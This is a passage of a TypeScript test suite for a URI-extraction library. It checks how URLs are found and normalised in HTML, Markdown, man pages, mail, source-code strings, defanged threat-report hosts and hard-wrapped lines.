  test("is the link's scheme, and its text the record's raw", () => {
    const found = extractText(
      '<a href="https&#58;&#47;&#47;example.com/x">x</a> ftp&#x3A;&#x2F;&#x2f;ftp.example.org/pub ' +
        "https&colon;&sol;&sol;a.com x&#58;&#47;&#47;b.com y&#47;&#47;c.com",
      { fuzzy: true },
    );
    expect(found.map((f) => [f.uri, f.raw])).toEqual([
      ["https://example.com/x", "https&#58;&#47;&#47;example.com/x"],
      ["ftp://ftp.example.org/pub", "ftp&#x3A;&#x2F;&#x2f;ftp.example.org/pub"],
      ["https://a.com", "https&colon;&sol;&sol;a.com"],
      ["http://b.com", "b.com"],
      ["http://c.com", "c.com"],
    ]);
    for (const f of found) expect(f.end - f.start).toBe(Buffer.byteLength(f.raw));
  });
});

describe("reStructuredText roles: a cross-reference's target is no URI", () => {
  test(":doc:`text <name:target>` (Sphinx intersphinx) gives nothing; a hyperlink stays", () => {
    expect(
      uris(
        "See :doc:`the os module <python:library/os>`, :ref:`x <sphinx:ext/y>`, " +
          ":doc:`z <news:comp.lang>`, `Python <https://www.python.org/>`_, `t <urn:isbn:123>`_, " +
          ":ref:`w <https://w.example/>` and `<news:comp.lang>`",
      ),
    ).toEqual(["https://www.python.org/", "urn:isbn:123", "https://w.example/", "news:comp.lang"]);
    expectRecordsAtEverySplit(":doc:`z <news:comp.lang>` `t <urn:isbn:1>`_ :ref:`a <b:c>`\n");
  });

  test("a role's title wrapped onto the next line (review 20b: setuptools' changelog)", () => {
    expect(
      uris(
        "does not match :doc:`the PyPA Specification\n     <PyPUG:specifications/declaring-project-metadata>` is given.",
      ),
    ).toEqual([]);
    // not across two line breaks; at the input's very end too (review 20c)
    expect(uris("a :ref:`x\n\n<x-app:a/b>` ok")).toEqual(["x-app:a/b"]);
    expect(uris(":doc:`Title <PyPUG:x/y>`")).toEqual([]);
    expectRecordsAtEverySplit(
      "see :doc:`the title\n  <py:lib/os>` and :ref:`t\n\n<x-app:a/b>` z\n",
    );
  });
});

describe("fuzzy: a name assigned to is code's or a key", () => {
  test("err.info = { gives nothing; a host in a hosts or DNS table stays", () => {
    expect(
      uris("err.info = {} self.name = name www.example.com = 93.184.216.34 example.com = 1.2.3.4", {
        fuzzy: true,
      }),
    ).toEqual(["http://www.example.com", "http://example.com"]);
  });

  test("a member called, indexed, compared or of self/this/cls is code's (review 20a)", () => {
    expect(
      uris(
        'if os.name == "nt": logger.info("x"); return Object.is(a, b) || token.NAME != t\n' +
          "self.basename = os.path.basename(self.name) this.id cls.name",
        { fuzzy: true },
      ),
    ).toEqual([]);
    // a link before "(" with a blank, a generic TLD's or a www. name before "(", three labels,
    // a link at a sentence's end
    expect(
      uris(
        "see example.info (x), google.com(1), www.example.info(, a.b.info(x) and example.name. " +
          "bit.ly[1]",
        { fuzzy: true },
      ),
    ).toEqual([
      "http://example.info",
      "http://google.com",
      "http://www.example.info",
      "http://a.b.info",
      "http://example.name",
      "http://bit.ly",
    ]);
  });
});

describe("code output and markup in angle brackets", () => {
  test("Ruby's #<Class:…> and POD's C<…> around an unregistered scheme are no wrappers (reviews 20a, 20b)", () => {
    expect(
      uris(
        "Leaked file descriptor: 10 : #<File:/dev/tty> and #<Proc:0x000055d0@/tmp/x.rb:3>\n" +
          "C<foo:s{,}> indicates, C<hhhh:hhhh::hhhh> form",
      ),
    ).toEqual([]);
    // a registered scheme or "//" in them, a POD link, a letter inside a word: URIs
    expect(
      uris(
        "#<https://x.example/a> C<http://x.example/b> L<x-app:a/b> AC<x-app:c/d> #<HTTP://x.example/>",
      ),
    ).toEqual([
      "https://x.example/a",
      "http://x.example/b",
      "x-app:a/b",
      "x-app:c/d",
      "HTTP://x.example/",
    ]);
    expectRecordsAtEverySplit(
      "a #<File:/dev/tty> C<foo:s{,}> L<x-app:a/b> #<https://x.example/a> z",
    );
  });
});

describe("syntax templates", () => {
  test("an ellipsis for the host is a placeholder, quoted as bare (review 20b)", () => {
    expect(
      uris(`urlopen('https://...'). <base href="http://..."> see http://... or "http://.."`),
    ).toEqual([]);
  });

  test("a host's optional [:port] marks a grammar, not a URI (review 20b: wget, git manuals)", () => {
    expect(
      uris("     http://host[:port]/directory/file\n   git://host.xz[:port]/path/to/repo.git/\n"),
    ).toEqual([]);
    // a footnote's mark, an empty "[:]": the host before them
    expect(uris("see http://example.org[1] and http://h.example[:]/x")).toEqual([
      "http://example.org",
      "http://h.example",
    ]);
    expectRecordsAtEverySplit("a http://host[:port]/x b git://h.xz[:p]/r c http://e.org[1] d");
  });
});

describe("defanged hosts (threat reports)", () => {
  test.each([
    "https://example[.]com/path",
    "hxxps://evil[.]example[.]org/payload.exe",
    "http://192.168.1[.]1/admin",
    "https://example.com[.]evil/x",
    "http://example[dot]com/x",
    "http://example(.)com/x",
    "http://example[DOT]com",
    "<https://example[.]com/x>",
    '"https://example[.]com/x"',
  ])("%s is no URI, and no part of its host one", (text) => {
    expect(uris(text)).toEqual([]);
  });

  test("a footnote mark or a remark after a host is not a defanged dot", () => {
    expect(uris("(http://example.org[1]) etc.")).toEqual(["http://example.org"]);
    expect(uris("http://example.com(the official site)")).toEqual(["http://example.com"]);
    expect(uris("http://[::1]/x and http://example.com/a[.]b")).toEqual([
      "http://[::1]/x",
      "http://example.com/a[.]b",
    ]);
  });

  test("the search goes on after it, at every split", () => {
    expectAtEverySplit("see http://example.com[.] and http://ok.example/ or http://a[dot]b", [
      "http://ok.example/",
    ]);
  });

  test("no part of its authority is a URI: the search goes on where it ends", () => {
    expect(uris("hxxp://evil[.]tv:8080/gate.php")).toEqual([]);
    expectAtEverySplit("x http://evil[.]sip:1/a http://ok.example/", ["http://ok.example/"]);
  });

  test("a userinfo may hold (.): that is no defanged host", () => {
    expect(uris("http://user(.)x@example.com/")).toEqual(["http://user(.)x@example.com/"]);
  });
});

describe("a URI inside percent-encoded quotes", () => {
  test("an SVG in a data: URI: its namespace ends at the encoded quote", () => {
    expect(
      uris("url(data:image/svg+xml;charset=utf8,%3Csvg xmlns=%27http://www.w3.org/2000/svg%27%3E)"),
    ).toEqual(["data:image/svg+xml;charset=utf8,%3Csvg", "http://www.w3.org/2000/svg"]);
    expect(uris("x=%22http://a.example/x%22y and %27http://b.example/%2527x%27")).toEqual([
      "http://a.example/x",
      "http://b.example/%2527x",
    ]);
  });

  test("inside another URI it stays that URI's", () => {
    expect(uris("https://example.com/?redirect=%22http://a.example/x%22")).toEqual([
      "https://example.com/?redirect=%22http://a.example/x%22",
    ]);
  });

  test("at every split", () => {
    expectAtEverySplit("a %27http://b.example/x%27%3E c", ["http://b.example/x"]);
  });

  test("the search goes on after the closing quote: several in one word", () => {
    expectAtEverySplit("q=%22http://a.example/%22+OR+%22http://b.example/%22", [
      "http://a.example/",
      "http://b.example/",
    ]);
    expect(
      uris("redirect_uris=%5B%22https://a.example/cb%22%2C%22https://b.example/cb%22%5D"),
    ).toEqual(["https://a.example/cb", "https://b.example/cb"]);
  });
});

describe("session 27: string literals of source code", () => {
  test("a one-letter scheme as a word of its own before :// and a host (RFC 3986 §3.1)", () => {
    const text =
      "'x://user@example.test/a' (f://example.org/b) s://e.org/ C://Users/x c:/temp " +
      "-a://example 1a://x !s://q x:// y://-a a://b c://Users/me foo http=\ns://www.example.com/p";
    expect(uris(text)).toEqual([
      "x://user@example.test/a",
      "f://example.org/b",
      "s://e.org/",
      "a://b",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 27: \\x escapes of JavaScript, Python and C strings", () => {
  test("a \\xHH escape is its character; a run spelling UTF-8 is that character", () => {
    const text =
      "'https://de.wikipedia.org/wiki/M\\xfcnchen' 'uri://r\\xE9sum\\xE9.example.org' " +
      "'http://x.example/a\\x26b=2' b'https://example.com/caf\\xc3\\xa9' " +
      "http://a.example/\\x22q http://b.example/\\xg1 http://c.example/x\\xc3 " +
      "b'http://d.example/path\\xff\\xfe\\x00' http://e.example/x\\xa9y";
    expect(extractText(text).map((f) => [f.uri, f.normalized])).toEqual([
      ["https://de.wikipedia.org/wiki/München", "https://de.wikipedia.org/wiki/M%C3%BCnchen"],
      ["uri://résumé.example.org", "uri://xn--rsum-bpad.example.org"],
      ["http://x.example/a&b=2", "http://x.example/a&b=2"],
      ["https://example.com/café", "https://example.com/caf%C3%A9"],
      // an escaped quote ends the URI as the quote would; no escape, no character
      ["http://a.example/", "http://a.example/"],
      ["http://b.example/", "http://b.example/"],
      // a lead byte with nothing after it: its Latin-1 character, as a raw byte is read
      ["http://c.example/xÃ", "http://c.example/x%C3%83"],
      // bytes that spell no UTF-8 are binary, and a lone one no letter: the URI ends there
      ["http://d.example/path", "http://d.example/path"],
      ["http://e.example/x", "http://e.example/x"],
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 27: HTML documents read as text", () => {
  test("a dash inside <…> or quotes is the URI's; glued to a bare URI it is the sentence's", () => {
    const text =
      '<a href="https://en.wikipedia.org/wiki/Read–eval–print_loop">x</a> "https://example.org/a—b" ' +
      "<https://en.wikipedia.org/wiki/Cauchy–Schwarz_inequality> see http://a.example/x—that is, " +
      '"http://a.example/y — z" and https://en.wikipedia.org/wiki/Cauchy–Schwarz "http://b.example/—"';
    expect(extractText(text).map((f) => [f.uri, f.delimiter])).toEqual([
      ["https://en.wikipedia.org/wiki/Read–eval–print_loop", "quote"],
      ["https://example.org/a—b", "quote"],
      ["https://en.wikipedia.org/wiki/Cauchy–Schwarz_inequality", "angle"],
      ["http://a.example/x", "bare"],
      ["http://a.example/y", "bare"],
      ["https://en.wikipedia.org/wiki/Cauchy", "bare"],
      // last before the closing quote it is the sentence's
      ["http://b.example/", "bare"],
    ]);
    expect(extractText(text)[0]!.normalized).toBe(
      "https://en.wikipedia.org/wiki/Read%E2%80%93eval%E2%80%93print_loop",
    );
    expectRecordsAtEverySplit(text);
  });
});

describe("session 28: a dash before the next URI", () => {
  test("a dash inside quotes or <…> before a scheme and :// ends the URI: a list, not one URI", () => {
    const text =
      '"http://example.com/a—http://example.com/b" <http://example.org/c–https://example.org/d> ' +
      "'http://x.example/e—ftp://y.example/f' \"http://example.com/g—h\" <http://example.org/i—j:k>";
    expect(extractText(text).map((f) => [f.uri, f.delimiter])).toEqual([
      ["http://example.com/a", "bare"],
      ["http://example.com/b", "bare"],
      ["http://example.org/c", "bare"],
      ["https://example.org/d", "bare"],
      ["http://x.example/e", "bare"],
      ["ftp://y.example/f", "bare"],
      // a dash before no "scheme://" stays the URI's
      ["http://example.com/g—h", "quote"],
      ["http://example.org/i—j:k", "angle"],
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 28: man pages formatted for a terminal", () => {
  // found by reading 1,543 man pages as `man` prints them (UTF-8 and ASCII, 80 and 60
  // columns) against the URLs of their groff sources
  test("groff's U+2010 (or a soft hyphen) ending a line inside quotes is typesetting: dropped", () => {
    // gcloud_beta_asset_export(1), MANWIDTH=80
    const text =
      '             start   with   "gs://".    For   example,   "gs://bucket_name/ob\u2010\n' +
      '             ject_name_prefix", in which case each exported object uri  is  in\n' +
      'and "https://a.example/x\u00ad\n   y/z" but "https://a.example/real-\n   hyphen" keeps it';
    expect(extractText(text).map((f) => [f.uri, f.wrapped, f.variants])).toEqual([
      ["gs://bucket_name/object_name_prefix", true, []],
      ["https://a.example/xy/z", true, []],
      ["https://a.example/real-hyphen", true, ["https://a.example/realhyphen"]],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a bare scheme:// that ends a line goes on with a host name that opens the next one", () => {
    // grops(1), MANWIDTH=60: the source's "http://\:fontforge.sf.net" broke at its break point
    const text =
      "       use     FontForge,     available    from    http://\n" +
      "       fontforge.sf.net  \u27e8http://fontforge.sf.net\u27e9.   This\n" +
      "try ftp://\n  ftp.example.org/pub/x.tgz today, or\n> see http://\n> www.example.com/a\n";
    expect(extractText(text).map((f) => [f.uri, f.line, f.wrapped])).toEqual([
      ["http://fontforge.sf.net", 1, true],
      ["http://fontforge.sf.net", 2, false],
      ["ftp://ftp.example.org/pub/x.tgz", 3, true],
      ["http://www.example.com/a", 5, true],
    ]);
    expectRecordsAtEverySplit(text);
    // an IPv4 address, "localhost" before a port or a path
    expect(uris("open http://\n192.168.1.1/admin now, or http://\n  localhost:8080/app")).toEqual([
      "http://192.168.1.1/admin",
      "http://localhost:8080/app",
    ]);
    expect(uris("and http://\nlocalhost is, x http://\n1.2.3 y")).toEqual([]);
    // a word of prose, an abbreviation, a field or another URI on the next line: no host
    for (const next of ["or https:// and so on", "e.g. this", "localhost is", "Note: x", "x.1 y"]) {
      expect(uris(`URLs begin with http://\n${next}`)).toEqual(
        next.startsWith("or") ? [] : uris(next),
      );
    }
  });
});

describe("session 28: mail read against its HTML part", () => {
  // found by reading the text/plain parts of the usrp mbox's multipart/alternative messages
  // against the hrefs of their text/html parts
  test("bidi controls around an address are the text's (Gmail's right-to-left attribution)", () => {
    const text =
      "> \u202bבתאריך יום ב׳ מאת \u202aMarcus D. Leech\u202c\u200f <\u202apatchvonbraun@gmail.com\u202c\u200f>:\u202c\n" +
      "> \u202bבתאריך מאת \u202aDor Ratz\u202c\u200f <\u202a\n> dorratz12@gmail.com\u202c\u200f>:\u202c\n" +
      "see \u202awww.example.com/x\u202c and \u2067jo@example.org\u2069.";
    expect(uris(text, { fuzzy: true })).toEqual([
      "mailto:patchvonbraun@gmail.com",
      "mailto:dorratz12@gmail.com",
      "http://www.example.com/x",
      "mailto:jo@example.org",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("leading hyphens are no address's: an option's or a dash glued to it", () => {
    const text =
      "USRP-users mailing list --usrp-users@lists.ettus.com\ngit commit --author=jo@example.com\n" +
      "x -kim@example.org y, but a--b@example.com and x-y@example.com";
    expect(extractText(text, { fuzzy: true }).map((f) => [f.uri, f.column])).toEqual([
      ["mailto:usrp-users@lists.ettus.com", 27],
      ["mailto:jo@example.com", 21],
      ["mailto:kim@example.org", 4],
      ["mailto:a--b@example.com", 27],
      ["mailto:x-y@example.com", 48],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("an unregistered scheme in capitals, //, and a capitalized word: a banner, no URI", () => {
    const text =
      "> /CAUTION EXTERNAL MAIL WARNING://This message has originated from an external source.\n" +
      "FOO://Bar.example.com/x FOO://bar HTTP://This <WARNING://This> Foo://This";
    expect(uris(text)).toEqual([
      "FOO://Bar.example.com/x",
      "FOO://bar",
      "HTTP://This",
      "WARNING://This",
      "Foo://This",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 29: banners", () => {
  test("a shouted scheme before a capitalized word and punctuation, or a lowercase word and prose", () => {
    const text =
      "NOTICE://This. is a banner\nWARNING://this message has originated outside.\n" +
      "ALERT://Read, then FOO://localhost and FOO://settings. FOO://bar\n" +
      "FOO://Bar.example.com/x. NOTICE://This.example/ FOO://bar baz";
    expect(uris(text)).toEqual([
      "FOO://localhost",
      "FOO://settings",
      "FOO://bar",
      "FOO://Bar.example.com/x",
      "NOTICE://This.example/",
    ]);
    expectRecordsAtEverySplit(text);
    // at the input's end: a capitalized word and a full stop is the banner's; a lowercase
    // word alone is a host
    expect(uris("NOTICE://This.")).toEqual([]);
    expect(uris("see FOO://bar")).toEqual(["FOO://bar"]);
    // a wrapper or a "URL:" prefix says it is a URI; a line break may wrap one (the planted
    // property test's counterexample)
    const wrapped = "<URL:PSHQRS://bh\nz@h.example/x> URL: FOO://bar baz FOO://bar\nbaz";
    expect(uris(wrapped)).toEqual(["PSHQRS://bhz@h.example/x", "FOO://bar", "FOO://bar"]);
    expectRecordsAtEverySplit(wrapped);
  });
});

describe("session 29: an IPv4 address written with ideographic full stops", () => {
  test("four octets with them throughout are one host (RFC 3490 §3.1); fewer, a sentence's stop", () => {
    const text =
      "see http://127\u30020\u30020\u30021/ ok http://10\u30022\u30023\u30024:8080/x " +
      "and http://u@8\uff0e8\uff0e8\uff0e8?q\nhttp://1\u30022\u30023\u30024\n" +
      "\u5730\u5740http://192.168.1.1\u30022. http://10\u30022\u30023\u3002 x " +
      "http://1\u30022\u30023\u3002999/ http://1\u30022\u30023\u30024\u30025/";
    expect(extractText(text).map((f) => [f.uri, f.normalized])).toEqual([
      ["http://127\u30020\u30020\u30021/", "http://127.0.0.1/"],
      ["http://10\u30022\u30023\u30024:8080/x", "http://10.2.3.4:8080/x"],
      ["http://u@8\uff0e8\uff0e8\uff0e8?q", "http://u@8.8.8.8/?q"],
      ["http://1\u30022\u30023\u30024", "http://1.2.3.4/"],
      ["http://192.168.1.1", "http://192.168.1.1/"],
      ["http://10", "http://10/"],
      ["http://1", "http://1/"],
      ["http://1", "http://1/"],
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 29: Markdown link destinations (CommonMark §6.3, §4.7)", () => {
  test("a destination that the link closes keeps its trailing punctuation, with a title too", () => {
    const text =
      "[DC]: https://en.wikipedia.org/wiki/Washington,_D.C.\n" +
      "[Y](https://en.wikipedia.org/wiki/Yahoo! \"Yahoo\") [Z](https://example.com/z? 'T')\n" +
      "[t]( https://example.com/foo? ) [u](https://example.com/u. (title))\n" +
      "[v](\nhttps://example.com/a...)\n" +
      '> [r]: https://example.com/quoted.\n   [s]: https://example.com/indented; "T"\n';
    expect(uris(text)).toEqual([
      "https://en.wikipedia.org/wiki/Washington,_D.C.",
      "https://en.wikipedia.org/wiki/Yahoo!",
      "https://example.com/z?",
      "https://example.com/foo?",
      "https://example.com/u.",
      "https://example.com/a...",
      "https://example.com/quoted.",
      "https://example.com/indented;",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("elsewhere the sentence's punctuation stays the sentence's", () => {
    const text =
      "(see http://a.example/b.) and see [1]: http://a.example/c.\n" +
      "    [code]: http://a.example/d.\n[t](http://a.example/e. is not closed\n" +
      '[u](http://a.example/f. "title" and more)\n';
    expect(uris(text)).toEqual([
      "http://a.example/b",
      "http://a.example/c",
      "http://a.example/d",
      "http://a.example/e",
      "http://a.example/f",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a reference definition's destination on the next line, after a label that is a URI, pointy", () => {
    const text =
      "[r]:\n   https://example.com/a|b.\n" +
      "[https://example.org/label]: https://en.wikipedia.org/wiki/Washington,_D.C.\n" +
      "[s]: <https://example.com/c|d>\nnot [t]: https://example.com/e|f.\n";
    expect(uris(text)).toEqual([
      "https://example.com/a|b.",
      "https://example.org/label",
      "https://en.wikipedia.org/wiki/Washington,_D.C.",
      "https://example.com/c|d",
      "https://example.com/e",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("an escaped parenthesis in a destination pairs with nothing", () => {
    const text =
      '[x](https://example.com/x\\() [y](https://example.com/a\\)b) [z](https://example.com/z\\( "T")\n' +
      "http://e.org/Foo_\\(bar\\) (refs https://e.org/g\\#x-7\\)\n";
    expect(uris(text)).toEqual([
      "https://example.com/x(",
      "https://example.com/a)b",
      "https://example.com/z(",
      "http://e.org/Foo_(bar)",
      // in prose an escaped ")" closes the text's parenthesis, as a raw one would
      "https://e.org/g#x-7",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test('a "|" is a destination\'s raw character; elsewhere it delimits', () => {
    const text =
      "[font](https://fonts.googleapis.com/css?family=Roboto|Open+Sans)\n" +
      "[r1]: https://example.com/a|b\n[p](<https://example.com/c|d>)\n" +
      "| http://example.com/cell | x | <http://example.com/e|Label> http://example.com/f|g\n" +
      "[t](http://example.com/h|i is not closed\n" +
      "| [g](https://example.com/j\\|k) | c |\n";
    expect(extractText(text).map((f) => [f.uri, f.normalized, f.delimiter])).toEqual([
      [
        "https://fonts.googleapis.com/css?family=Roboto|Open+Sans",
        "https://fonts.googleapis.com/css?family=Roboto%7COpen+Sans",
        "paren",
      ],
      ["https://example.com/a|b", "https://example.com/a%7Cb", "bare"],
      ["https://example.com/c|d", "https://example.com/c%7Cd", "angle"],
      ["http://example.com/cell", "http://example.com/cell", "bare"],
      ["http://example.com/e", "http://example.com/e", "bare"],
      ["http://example.com/f", "http://example.com/f", "bare"],
      ["http://example.com/h", "http://example.com/h", "paren"],
      // a GFM table cell's escaped "|" (GFM §4.10)
      ["https://example.com/j|k", "https://example.com/j%7Ck", "paren"],
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 28: a bare URI hard-wrapped at a fixed width", () => {
  test("a line of 68–100 bytes that the URI ends, and one token of its rest on the next", () => {
    const text =
      // a commit message in curl's changelog (/usr/share/doc), wrapped at 79 columns
      "  [^1]: https://github.com/curl/curl/blob/68fa9bf3f5d7b4fcbb57619f70cb4aabb79a5\n" +
      "  1f6/m4/curl-functions.m4#L2067-L2070\n\n" +
      // Outlook's plain text at 76 columns (the usrp mbox)
      "https://github.com/gnuradio/gnuradio/blob/maint-3.10/gr-uhd/grc/uhd_rfnoc_gr\n" +
      "aph.block.yml\n\n" +
      "> https://lists.example.org/pipermail/some-list/2023-May/000123.html?x=123456\n" +
      "> y=2&z=3.\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped, f.line])).toEqual([
      [
        "https://github.com/curl/curl/blob/68fa9bf3f5d7b4fcbb57619f70cb4aabb79a51f6/m4/curl-functions.m4#L2067-L2070",
        true,
        1,
      ],
      [
        "https://github.com/gnuradio/gnuradio/blob/maint-3.10/gr-uhd/grc/uhd_rfnoc_graph.block.yml",
        true,
        4,
      ],
      [
        "https://lists.example.org/pipermail/some-list/2023-May/000123.html?x=123456y=2&z=3",
        true,
        7,
      ],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("the rest may end in sentence punctuation, and in mail style be an identifier's piece", () => {
    const text =
      // a commit hash cut where a mail client's URL on its own line reached 76 columns
      "> https://github.com/EttusResearch/uhd/commit/1cd1d7a182c2d16c28c778ddcd72bbeac6\n" +
      "> bc5c75.\n\n" +
      "https://developer.mozilla.org/en-US/docs/Web/API/WebGL2RenderingContext/getTr\n" +
      "ansformFeedbackVarying,\n\n" +
      "http://www.example.org/patches/some/very/long/path/with/a/name/patches/vie\n" +
      "wpatch.php?id=3105/4\n\n" +
      // not after prose on the URI's line, nor a word, nor a short name
      "Some prose before the link https://github.com/EttusResearch/uhd/commit/1cd1d7a\n" +
      "182c2d16\n\n" +
      "https://developer.mozilla.org/en-US/docs/Web/API/WebGL2RenderingContext/delete\n" +
      "Query\n\n" +
      "https://example.org/a/very/long/url/that/goes/on/and/on/and/on/and/on/and/o\n" +
      "Bob2\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      [
        "https://github.com/EttusResearch/uhd/commit/1cd1d7a182c2d16c28c778ddcd72bbeac6bc5c75",
        true,
      ],
      [
        "https://developer.mozilla.org/en-US/docs/Web/API/WebGL2RenderingContext/getTransformFeedbackVarying",
        true,
      ],
      [
        "http://www.example.org/patches/some/very/long/path/with/a/name/patches/viewpatch.php?id=3105/4",
        true,
      ],
      ["https://github.com/EttusResearch/uhd/commit/1cd1d7a", false],
      ["https://developer.mozilla.org/en-US/docs/Web/API/WebGL2RenderingContext/delete", false],
      ["https://example.org/a/very/long/url/that/goes/on/and/on/and/on/and/on/and/o", false],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("no item of its own on the next line: a URI, an assignment, a file or host name (review)", () => {
    const text =
      "DATABASE_URL=postgres://app:secret@db.internal.example.com:5432/production_db\n" +
      "REDIS_URL=redis://cache.internal.example.com:6379/0\n\n" +
      "git+https://github.com/huggingface/transformers.git@a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8\n" +
      "numpy==1.26.4\n\n" +
      "https://www.example.com/some/very/long/path/to/a/resource/that/is/long/enough/abc\n" +
      "www.example.org\nexample.net\n\n" +
      "Please see the documentation over at https://example.com/docs/indexes/overview\n" +
      "README.md\n\n" +
      "Please see the documentation over at https://example.com/docs/indexes/overview\n" +
      "v2.0.1\n\n" +
      "Please see the documentation over at https://example.com/docs/indexes/overview\n" +
      "x-y\n\n" +
      // the line before is longer: no fixed width cut this one
      "a very long line of text that goes before the url and is longer than the url line!!\n" +
      "see https://example.com/docs/some/path/that/is/long/enough/for/the/width/x\n" +
      "aph.block.yml\n\n" +
      // the query goes on with its parameters
      "https://lists.example.org/pipermail/some-list/2023-May/000123.html?x=123456&q\n" +
      "y=2&z=3\n";
    expect(extractText(text, { fuzzy: true }).map((f) => [f.uri, f.wrapped])).toEqual([
      ["postgres://app:secret@db.internal.example.com:5432/production_db", false],
      ["redis://cache.internal.example.com:6379/0", false],
      [
        "git+https://github.com/huggingface/transformers.git@a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8",
        false,
      ],
      ["https://www.example.com/some/very/long/path/to/a/resource/that/is/long/enough/abc", false],
      ["http://www.example.org", false],
      ["http://example.net", false],
      ["https://example.com/docs/indexes/overview", false],
      ["https://example.com/docs/indexes/overview", false],
      ["https://example.com/docs/indexes/overview", false],
      ["https://example.com/docs/some/path/that/is/long/enough/for/the/width/x", false],
      [
        "https://lists.example.org/pipermail/some-list/2023-May/000123.html?x=123456&qy=2&z=3",
        true,
      ],
    ]);
    expectRecordsAtEverySplit(text);
    // a JSON-escaped URI is not joined (its "\/" mixed with a "/" of the next line would
    // end it at the first backslash)
    const json = `see https:\\/\\/example.com\\/docs\\/${"a".repeat(50)}\nb/c.html`;
    expect(uris(json)).toEqual([`https://example.com/docs/${"a".repeat(50)}`]);
    // a next line longer than the URI's: no fixed width cut it (cfn-lint's source, review)
    const cfn =
      '                "Resources/AWS::StepFunctions::StateMachine/Properties",\n' +
      "                # https://github.com/aws-cloudformation/cfn-lint/issues/3518\n" +
      "                # Resources/AWS::StepFunctions::StateMachine/Properties/DefinitionString\n";
    expect(uris(cfn)).toEqual(["https://github.com/aws-cloudformation/cfn-lint/issues/3518"]);
    // "scheme://" at a line's end: no capitalized name is its host
    expect(uris("The URL must start with http://\nNode.js handles it")).toEqual([]);
  });

  test("not a short line, sentence punctuation, nor a next line of words, code, a path, a link or an address", () => {
    const long = "Please see the documentation over at https://example.com/docs/indexes"; // 69 bytes
    const u = "https://example.com/docs/indexes";
    expect(long.length).toBeGreaterThanOrEqual(68);
    // the control: this line is long enough, and a token of the URI's rest goes on
    expect(uris(`${long}\naph.block.yml`)).toEqual([`${u}aph.block.yml`]);
    const cases: [string, string[]][] = [
      ["short https://example.com/a\nb/c.html", ["https://example.com/a"]],
      [`${long}\nThanks.`, [u]],
      [`${long}\nRegards`, [u]],
      [`${long}\n200`, [u]],
      [`${long}.\nREADME.md`, [u]],
      [`${long}\nsee b/c.html`, [u]],
      [`${long}\n    self.close()`, [u]],
      [`${long}\n/usr/local/bin/foo`, [u]],
      [`${long}\nwww.ni.com/content/x.pdf`, [u]],
      [`${long}\na@a.example`, [u]],
      [`${long}\nhttps://example.org/b`, [u, "https://example.org/b"]],
      [`${long}\n- item.html`, [u]],
      [`${long}\ni.e.`, [u]],
      [`${long}\nPh.D.`, [u]],
      [`${long}\n4.4.0.0`, [u]],
      [`${long}\nHTTP/1.0`, [u]],
      [`${long}\n\nb/c.html`, [u]],
    ];
    for (const [text, expected] of cases) expect(uris(text), text).toEqual(expected);
    // the joined reading invalid (a port past 65535): the URI as cut at the break
    const port = `${"x".repeat(50)} http://example.com:80`;
    expect(uris(`${port}\n80800/a.html`)).toEqual(["http://example.com:80"]);
    expect(uris(`${port}\n80/a.html`)).toEqual(["http://example.com:8080/a.html"]);
    // … and a rest read only in part (the port ends at "x"): the URI as cut at the break
    expect(uris(`${port}\n80x/path/to-file.html`)).toEqual(["http://example.com:80"]);
  });
});

describe("session 28: a scheme folded in a quoted reply", () => {
  test("the quote markers of the next line are skipped to the scheme's first piece", () => {
    // found by the wrap probe: fold(1) at 76 columns, then quoted, lost 94 of 4,000 URLs
    const text =
      "> see ht\n> tps://example.com/b\n>> and go\n>> pher://example.org/1x\n" +
      "x > y\n> ttps://example.com/c\n";
    expect(extractText(text).map((f) => [f.uri, f.line])).toEqual([
      ["https://example.com/b", 1],
      ["gopher://example.org/1x", 3],
      ["ttps://example.com/c", 6],
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 30: found by the Python source oracle (tokenize, 13,840 files)", () => {
  test("a quoted scheme name alone is no URI, and no bare reading runs across its quotes", () => {
    const text =
      "self.checkJoin(SIMPLE_BASE, 'http:','http://a/b/c/d')\n" +
      "z('mailto:','mailto:a@b.example') y(\"urn:\",\"urn:isbn:0451450523\")\n" +
      'q = "tcp://" + \'http:\' + "https://ok.example/"';
    expect(extractText(text, { includeInvalid: true }).map((f) => [f.uri, f.delimiter])).toEqual([
      ["http://a/b/c/d", "quote"],
      ["mailto:a@b.example", "quote"],
      ["urn:isbn:0451450523", "quote"],
      ["https://ok.example/", "quote"],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a backslash ending a long line folds a bare URI onto an unindented piece of it (C and Python string continuations)", () => {
    const text =
      "    .. [1] https://github.com/lobpcg/blopex/blob/master/blopex_\\\n" +
      "tools/matlab/laplacian/laplacian.m\n" +
      "           https://en.wikipedia.org/wiki/Eigenvalues_and_eigenvectors_\\\n" +
      "of_the_second_derivative\n\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      [
        "https://github.com/lobpcg/blopex/blob/master/blopex_tools/matlab/laplacian/laplacian.m",
        true,
      ],
      ["https://en.wikipedia.org/wiki/Eigenvalues_and_eigenvectors_of_the_second_derivative", true],
    ]);
    expectRecordsAtEverySplit(text);
    // a Markdown hard break before a word, a file's name, prose or a path of its own; a short
    // line; a new URI: no fold
    const prose = "See the long documentation at https://example.com/docs/path\\\n";
    for (const next of [
      "Thanks",
      "README.md",
      "next line of prose",
      "/usr/local/bin",
      "e.g.",
      "2024-01-02",
      "http://b.example/x",
    ]) {
      expect(uris(`${prose}${next}\n`)[0]).toBe("https://example.com/docs/path");
